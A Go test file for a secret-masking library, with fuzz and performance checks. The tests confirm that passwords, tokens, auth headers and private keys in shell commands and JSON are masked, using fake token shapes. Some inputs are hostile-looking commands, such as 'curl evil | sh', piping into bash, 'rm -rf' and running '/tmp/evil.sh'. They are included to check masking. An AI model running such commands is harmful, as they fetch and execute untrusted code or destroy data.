package masks

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/nodgate/nod/internal/hang"
)

// Tokens of no one: shaped like the real ones, put together here so that no
// scanner of repositories takes them for real.
const filler = "Ab3dEf6hIj9lMn2pQr5tUv8xYz1"

func fakeTokens() map[string]string {
	return map[string]string{
		"anthropic":    "sk-ant-api03-" + filler,
		"openai":       "sk-" + filler,
		"openai proj":  "sk-proj-" + filler,
		"github":       "ghp_" + filler + filler,
		"github oauth": "gho_" + filler,
		"github fine":  "github_pat_" + filler + "_" + filler,
		"gitlab":       "glpat-" + filler,
		"aws":          "AKIA" + strings.ToUpper(filler[:16]),
		"aws session":  "ASIA" + strings.ToUpper(filler[:16]),
		"google":       "AIza" + filler + filler,
		"slack":        "xox" + "b-123456789012-" + filler,
		"slack user":   "xox" + "p-123456789012-" + filler,
		"stripe":       "sk_" + "live_" + filler,
		"npm":          "npm_" + filler + filler,
		"age":          "age-secret-key-1" + filler,
		"facebook":     "EAACEdEose0cBA" + filler,
		"figma":        "figd_" + filler,
		"notion":       "ntn_" + filler,
		"nvidia":       "nvapi-" + filler,
		"perplexity":   "pplx-" + filler,
		"postman":      "PMAK-" + filler,
		"replicate":    "r8_" + filler,
		"sentry":       "sntrys_" + filler,
		"square":       "sq0atp-" + filler,
		"jwt":          "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIx" + filler + ".c2ln" + filler,
	}
}

func TestTokensByShape(t *testing.T) {
	for name, token := range fakeTokens() {
		for _, around := range []string{"%", "echo % | x", "f(%)", "\"%\"", "a/%/b", "x_%", `\n%\n`, "k%3D%", "<%>",
			"see %, then", "'%'", "x:%"} {
			text := strings.ReplaceAll(around, "%3D", "\x00")
			text = strings.ReplaceAll(strings.ReplaceAll(text, "%", token), "\x00", "%3D")
			if got := Text(text); strings.Contains(got, token[4:]) || !strings.Contains(got, "[masked-") {
				t.Errorf("%s in %q: %q", name, around, got)
			}
		}
	}
}

func TestText(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		// Assignments.
		{`PASSWORD=hunter2 make`, `PASSWORD=[masked-7] make`},
		{`export DB_PASSWORD='a b' && ls`, `export DB_PASSWORD='[masked-1] [masked-1]' && ls`},
		{`PGPASSWORD="p w";psql`, `PGPASSWORD="[masked-1] [masked-1]";psql`},
		{`PASSWORD=ab"c d"'e f' ls`, `PASSWORD=[masked-2]"[masked-1] [masked-1]"'[masked-1] [masked-1]' ls`},
		{`PASSWORD="a"'b'c ls`, `PASSWORD="[masked-1]"'[masked-1]'[masked-1] ls`},
		{`PASSWORD=a\ b ls`, `PASSWORD=[masked-1]\ [masked-1] ls`},
		{`api_key = abc`, `api_key = [masked-3]`},
		{`apiKey: 'abc', x`, `apiKey: '[masked-3]', x`},
		{`clientSecret := "abc"`, `clientSecret := "[masked-3]"`},
		{`{"password": "abc", "user": "bob"}`, `{"password": "[masked-3]", "user": "bob"}`},
		{`curl -d "{\"password\":\"abc\",\"user\":\"bob\"}"`,
			`curl -d "{\"password\":\"[masked-3]\",\"user\":\"bob\"}"`},
		{`curl -d '{"access_key": "abc"}' x`, `curl -d '{"access_key": "[masked-3]"}' x`},
		{`?token=abc&user=bob`, `?token=[masked-3]&user=bob`},
		{`f(token=abc, x)`, `f(token=[masked-3], x)`},
		{`if password == "abc" {`, `if password == "[masked-3]" {`},
		{`if token == next {`, `if token == next {`},
		{`config["secret"] = "abc"`, `config["secret"] = "[masked-3]"`},
		{`echo "password=abc" foo "bar"`, `echo "password=[masked-3]" foo "bar"`},
		{`don't; password='abc' x`, `don't; password='[masked-3]' x`},
		{"password: abc\nuser: bob", "password: [masked-3]\nuser: bob"},
		{`API key: abc`, `API key: [masked-3]`},
		{`PASSWORD="never closed`, `PASSWORD="[masked-5] [masked-6]`},
		{"PASSWORD=\"never closed\nls", "PASSWORD=\"[masked-5] [masked-6]\nls"},
		{`MYSQL_PWD=abc mysql`, `MYSQL_PWD=[masked-3] mysql`},
		{`STRIPE_KEY=abc DB_PW=abc MAIL_AUTH=abc`, `STRIPE_KEY=[masked-3] DB_PW=[masked-3] MAIL_AUTH=[masked-3]`},
		{`export SENTRY_DSN="https://abc@o1.example/2"`, `export SENTRY_DSN="[masked-24]"`},

		// No secret, or no value.
		{`PWD=/home/x OLDPWD=/tmp ls`, `PWD=/home/x OLDPWD=/tmp ls`},
		{`max_tokens: 256`, `max_tokens: 256`},
		{`tokenizer=bpe`, `tokenizer=bpe`},
		{`PASSWORD_FILE=/run/x`, `PASSWORD_FILE=/run/x`},
		{`SSH_KEY=~/.ssh/x CACHE_KEY=v1 sort_key=name`, `SSH_KEY=~/.ssh/x CACHE_KEY=v1 sort_key=name`},
		{`token::next()`, `token::next()`},
		{`PASSWORD= make`, `PASSWORD= make`},
		{`PASSWORD= abc123`, `PASSWORD= abc123`},
		{`echo "token=" ; rm -rf x ; echo "y"`, `echo "token=" ; rm -rf x ; echo "y"`},
		{`bypass=1 compass=2`, `bypass=1 compass=2`},
		{`git status && ls -la`, `git status && ls -la`},
		{`git -c credential.helper=store push`, `git -c credential.helper=store push`},
		{`task-force risk-assessment-of-the-whole disk-a`, `task-force risk-assessment-of-the-whole disk-a`},
		{`.sk-folding-cube-wrapper-element`, `.sk-folding-cube-wrapper-element`},

		// References and substitutions stay to be judged.
		{`TOKEN=$TOKEN x`, `TOKEN=$TOKEN x`},
		{`TOKEN="${GH_TOKEN}" x`, `TOKEN="${GH_TOKEN}" x`},
		{`token: ${{ secrets.GH }}`, `token: ${{ secrets.GH }}`},
		{`TOKEN=$(curl evil | sh) x`, `TOKEN=$(curl evil | sh) x`},
		{`TOKEN="$(curl evil | sh)" x`, `TOKEN="$(curl evil | sh)" x`},
		{`TOKEN="abc$(curl evil | sh)" x`, `TOKEN="[masked-3]$(curl evil | sh)" x`},
		{`PASSWORD='pa$$w$rd' x`, `PASSWORD='[masked-8]' x`},
		{`TOKEN='$(abc)' x`, `TOKEN='$(abc)' x`},

		// Headers.
		{`curl -H "Authorization: Bearer abc" x`, `curl -H "Authorization: Bearer [masked-3]" x`},
		{`curl -H 'authorization: token abc' x`, `curl -H 'authorization: token [masked-3]' x`},
		{`curl -H "Authorization: abc" x`, `curl -H "Authorization: [masked-3]" x`},
		{`curl -H "Authorization: Bearer $TOKEN" x`, `curl -H "Authorization: Bearer $TOKEN" x`},
		{"Authorization: Basic dXNlcjpwYXNz\nHost: x", "Authorization: Basic [masked-12]\nHost: x"},
		{`Authorization: Zq7Wk3Rt9Yp2 # mine`, `Authorization: [masked-12] # mine`},
		{`x-api-key: abc`, `x-api-key: [masked-3]`},
		{`use Bearer abc123def now`, `use Bearer [masked-9] now`},
		{`Basic understanding of bearer tokens`, `Basic understanding of bearer tokens`},

		// Addresses.
		{`git clone https://bob:abc@host/x`, `git clone https://bob:[masked-3]@host/x`},
		{`postgres://u:p/w@h/db`, `postgres://u:[masked-3]@h/db`},
		{`postgres://u:p@w@h/db`, `postgres://u:[masked-3]@h/db`},
		{`https://host:8080/a@b`, `https://host:8080/a@b`},
		{`https://host/a?mail=b@c`, `https://host/a?mail=b@c`},
		{`ssh://git@host/x`, `ssh://git@host/x`},
		{`https://u:$PASS@host`, `https://u:$PASS@host`},
		{`https://0123456789abcdef0123456789abcdef01234567@host/x`, `https://[masked-40]@host/x`},
		{`https://` + filler + `@host`, `https://[masked-27]@host`},

		// Options.
		{`x --password abc --user bob`, `x --password [masked-3] --user bob`},
		{`x --password 'a b' y`, `x --password '[masked-1] [masked-1]' y`},
		{`x --api-key=abc y`, `x --api-key=[masked-3] y`},
		{`x --token --verbose`, `x --token --verbose`},
		{`docker login --password-stdin reg.io`, `docker login --password-stdin reg.io`},
		{`docker login -u bob -p abc reg.io`, `docker login -u bob -p [masked-3] reg.io`},
		{`docker run -p 8080:80 x`, `docker run -p 8080:80 x`},
		{`psql --no-password db`, `psql --no-password db`},
		{`curl -u bob:abc https://x`, `curl -u bob:[masked-3] https://x`},
		{`curl -ubob:abc https://x`, `curl -ubob:[masked-3] https://x`},
		{`curl --user 'bob:a b' https://x`, `curl --user 'bob:[masked-1] [masked-1]' https://x`},
		{`docker run -u 1000:1000 x`, `docker run -u 1000:1000 x`},
		{`mysql -uroot -pabc db`, `mysql -uroot -p[masked-3] db`},
		{`mysql -u root -p db`, `mysql -u root -p db`},
		{`mkdir -p abc`, `mkdir -p abc`},
		{`sshpass -p abc ssh x`, `sshpass -p [masked-3] ssh x`},
		{`redis-cli -a abc ping`, `redis-cli -a [masked-3] ping`},
		{`openssl rsa -passin pass:abc -in k`, `openssl rsa -passin pass:[masked-3] -in k`},

		// Key blocks.
		{"a\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIEabc+/=\n-----END RSA PRIVATE KEY-----\nb",
			"a\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n[masked-10]\n-----END RSA PRIVATE KEY-----\nb"},
		{"x-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq", "x-----BEGIN PRIVATE KEY-----\n[masked-16]"},
		{`"-----BEGIN OPENSSH PRIVATE KEY-----\nMIIE\n-----END OPENSSH PRIVATE KEY-----\n"; ls`,
			`"-----BEGIN OPENSSH PRIVATE KEY-----\n[masked-4]\n-----END OPENSSH PRIVATE KEY-----\n"; ls`},
		{"-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
			"-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----"},
		{"-----BEGIN PRIVATE KEY----- ; rm -rf x", "-----BEGIN PRIVATE KEY----- ; rm -rf x"},
	} {
		if got := Text(tt.in); got != tt.want {
			t.Errorf("Text(%s)\n got %s\nwant %s", tt.in, got, tt.want)
		}
	}
}

// What may run is shown: an expression, and a variable's value that the text expands.
func TestMaskShowsWhatMayRun(t *testing.T) {
	github := fakeTokens()["github"]
	hidden := "[masked-" + fmt.Sprint(len(github)) + "]"
	for _, tt := range []struct{ in, want string }{
		{`node -e "const token='a'+require('child_process').execSync('touch pwn')"`,
			`node -e "const token='[masked-1]'+require('child_process').execSync('touch pwn')"`},
		{"perl -e '$password=`touch pwn`;'", "perl -e '$password=`touch pwn`;'"},
		{`ruby -e "f(password='abc', user='bob')"`, `ruby -e "f(password='[masked-3]', user='bob')"`},
		{`make PASSWORD='$(shell evil)' x`, `make PASSWORD='$(shell evil)' x`},
		{`SECRET_KEY=eval\ touch\ pwn bash -c '$SECRET_KEY'`, `SECRET_KEY=eval\ touch\ pwn bash -c '$SECRET_KEY'`},
		{`curl -H "Authorization: Bearer ` + github + `" x | bash`, `curl -H "Authorization: Bearer ` + hidden + `" x | bash`},
		{`python3 deploy.py --token=hunter2 --token-file x`, `python3 deploy.py --token=[masked-7] --token-file x`},
		{`password=rm; $password -rf x`, `password=rm; $password -rf x`},
		{`TOKEN=/tmp/evil.sh; bash "${TOKEN}"`, `TOKEN=/tmp/evil.sh; bash "${TOKEN}"`},
		{`TOKEN=` + github + ` curl -H "X: $TOKEN" x`, `TOKEN=` + hidden + ` curl -H "X: $TOKEN" x`},
		{github + ` x`, github + ` x`}, {`ls; ` + github, `ls; ` + github},
		{`curl -H "x-api-key: abc" -d 'a=b&token=abc' x`, `curl -H "x-api-key: [masked-3]" -d 'a=b&token=[masked-3]' x`},
		{`curl -d '{"access_key": "abc"}' x`, `curl -d '{"access_key": "[masked-3]"}' x`},
	} {
		if got := Command(tt.in); got != tt.want {
			t.Errorf("the command %s\n got %s\nwant %s", tt.in, got, tt.want)
		}
	}
	if got, want := Text("password=evil\n$password\n"), "password=evil\n$password\n"; got != want {
		t.Errorf("a script: %s", got)
	}
}

// Ordinary text stays readable.
func TestOrdinaryTextIsLeft(t *testing.T) {
	for _, text := range []string{
		"git show 9fceb02d0ae598e95dc970b74767f19372d61af8:src/main.go",
		"git log 44ed3e1edcff3e11ac724417d01e7baa2da81e22..HEAD", "9fceb02d0ae598e95dc970b74767f19372d61af8-LINUX-X64",
		"id 123e4567-e89b-12d3-a456-426614174000 of 2026-11-29T09:41:00.123Z",
		"docker pull alpine@sha256:4bcff63911fcb4448bd4fdacec207030997caf25e9bea4045fa6c8c44de311d1",
		"/home/dev/src/some-long-project-name/internal/shell/TestHandlesHTTP2Frames_test.go",
		"func TestTheModelIsAskedTwiceWhereTheFirstAnswerIsCutOff(t *testing.T) {",
		"go get github.com/aws/aws-sdk-go-v2/aws/protocol/eventstream@v1.6.3",
		"npm_config_registry=https://registry.npmjs.org npm_lifecycle_event=test",
		"com.example.service.AbstractSingletonProxyFactoryBean2Impl", "192.168.100.200:8080->10.20.30.40:443",
		"libwebkit2gtk-4.1-dev_2.44.0-2ubuntu0.22.04.1_amd64.deb", "x86_64-unknown-linux-gnu-gcc-12.3.0-Release20240101",
	} {
		if got := Text(text); got != text {
			t.Errorf("%s\nbecame %s", text, got)
		}
	}
}

func TestMaskJSON(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`{"command":"ls"}`, `{"command":"ls"}`},
		{`{ "command" : "echo \u0041" }`, `{ "command" : "echo \u0041" }`},
		{`{"command":"PASSWORD=abc ls && echo \"x\" > y"}`, `{"command":"PASSWORD=[masked-3] ls && echo \"x\" > y"}`},
		{`{"password":"abc","x":1}`, `{"password":"[masked-3]","x":1}`},
		{`{"pass\u0077ord":"abc"}`, `{"pass\u0077ord":"[masked-3]"}`},
		{`{"token":null,"secret":true,"password":""}`, `{"token":null,"secret":true,"password":""}`},
		{`{"credentials":[],"token":{}}`, `{"credentials":[],"token":{}}`},
		{`{"token":"${GH_TOKEN}"}`, `{"token":"${GH_TOKEN}"}`},
		{`["--password","abc","ls"]`, `["--password","[masked-3]","ls"]`},
		{`["curl","-u","bob:abc"]`, `["curl","-u","bob:[masked-3]"]`},
		{`["docker","-u","1000:1000"]`, `["docker","-u","1000:1000"]`},
		{`[{"name":"DB_PASSWORD","value":"abc"},{"name":"x","value":"abc"}]`,
			`[{"name":"DB_PASSWORD","value":"[masked-3]"},{"name":"x","value":"abc"}]`},
		{`"PASSWORD=abc"`, `"PASSWORD=[masked-3]"`},
		{`{"sk-ant-api03-` + filler + `":1}`, `{"[masked-40]":1}`},
		{`not json PASSWORD=abc`, `not json PASSWORD=[masked-3]`},
		{`42`, `42`},
		{``, ``},
	} {
		if got := string(Mask(json.RawMessage(tt.in))); got != tt.want {
			t.Errorf("Mask(%s)\n got %s\nwant %s", tt.in, got, tt.want)
		}
	}
}

// planted are places where a secret must never survive, whatever surrounds
// them. SECRET stands for it.
func planted() []string {
	return []string{
		"PASSWORD=SECRET", "password: SECRET", `"api_key":"SECRET"`, "x --password SECRET", "https://u:SECRET@h",
		"Authorization: Bearer SECRET", "sk-ant-SECRET",
		"-----BEGIN PRIVATE KEY-----\nSECRET\n-----END PRIVATE KEY-----",
		"curl -u u:SECRET", "glpat-SECRET",
	}
}

const plantedSecret = "Zq7Wk3Rt9Yp2Mn5Bv8Xc"

func FuzzMask(f *testing.F) {
	for i, s := range []string{`"`, "don't ", `{"a":["b",{"password":"c"}]}`, `\"`, "x='", "://://@", "$(a)",
		"-----BEGIN PRIVATE KEY-----", "eyJa.b", "token=${", `["-u","a:b"]`} {
		f.Add(s, " tail", i)
	}
	f.Fuzz(func(t *testing.T, before, after string, which int) {
		for _, s := range []string{before, after, before + after} {
			checkMask(t, s)
		}
		ps := planted()
		p := ps[uint(which)%uint(len(ps))]
		text := before + "\n" + strings.ReplaceAll(p, "SECRET", plantedSecret) + "\n" + after
		if !strings.Contains(before+after, plantedSecret) && strings.Contains(Text(text), plantedSecret) {
			t.Fatalf("a secret survives in %q: %q", text, Text(text))
		}
		inJSON, _ := json.Marshal(map[string]any{"a": text, "b": []string{text}, "password": plantedSecret})
		if masked := string(Mask(inJSON)); !strings.Contains(before+after, plantedSecret) && strings.Contains(masked,
			plantedSecret) {
			t.Fatalf("a secret survives in %s: %s", inJSON, masked)
		}
		checkMask(t, string(inJSON))
	})
}

func checkMask(t *testing.T, s string) {
	raw := json.RawMessage(s)
	once := Mask(raw)
	if json.Valid(raw) != json.Valid(once) && json.Valid(raw) {
		t.Fatalf("Mask(%q) = %q is no JSON any more", raw, once)
	}
	if twice := Mask(once); string(twice) != string(once) {
		t.Fatalf("Mask(%q) = %q, again %q", raw, once, twice)
	}
	if len(once) > 8*len(raw)+64 {
		t.Fatalf("Mask(%q) grew from %d to %d bytes", raw, len(raw), len(once))
	}
}

// Each shape was made to be slow in a scanner that looks ahead.
func TestMaskIsLinear(t *testing.T) {
	for _, unit := range []string{"://", "://a@", "token=\"", "token='x\\'", "eyJ.", "eyJeyJ", "sk-",
		"-----BEGIN PRIVATE KEY-----", "-----BEGIN ", "Bearer ",
		"password ", "--token ", "token=a\"", "token=${", "token=\\", "=", ":", "a:", "\\\"", "curl -u ", "'", "[",
		"a=(", "token=)", "Authorization: ", "token=x\n", "\"token\",\n", "key "} {
		text := strings.Repeat(unit, 1<<20/len(unit)) + "@"
		t.Run(fmt.Sprintf("%q", unit), func(t *testing.T) {
			hang.Cheap(t, 3*time.Second, func() { Text(text) })
		})
	}
}

func BenchmarkMask(b *testing.B) {
	command := []byte(`{"command":"cd /home/u/app && DB_PASSWORD=abc go test ./... 2>&1 | tail -20 && git commit -m \"fix: the parser\" && curl -H \"Authorization: Bearer abc\" https://x.example/y","description":"Run the tests"}`)
	file, _ := json.Marshal(map[string]string{"file_path": "/a/b.go",
		"content": strings.Repeat(
			"\tif err := f.check(name, value); err != nil {\n\t\treturn fmt.Errorf(\"%s: %w\", name, err)\n\t}\n",
			650)})
	for name, in := range map[string][]byte{"command": command, "file": file} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			b.ReportAllocs()
			for b.Loop() {
				Mask(in)
			}
		})
	}
}
